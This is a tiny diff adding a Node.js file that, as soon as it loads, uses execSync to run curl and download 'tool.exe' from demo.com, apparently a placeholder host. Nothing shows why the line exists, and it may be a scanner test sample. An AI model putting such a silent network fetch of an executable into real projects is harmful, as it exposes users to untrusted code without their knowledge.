@@ -1,0 +1,3 @@
+import { execSync } from 'node:child_process';
+
+execSync('curl -O http://demo.com/tool.exe');
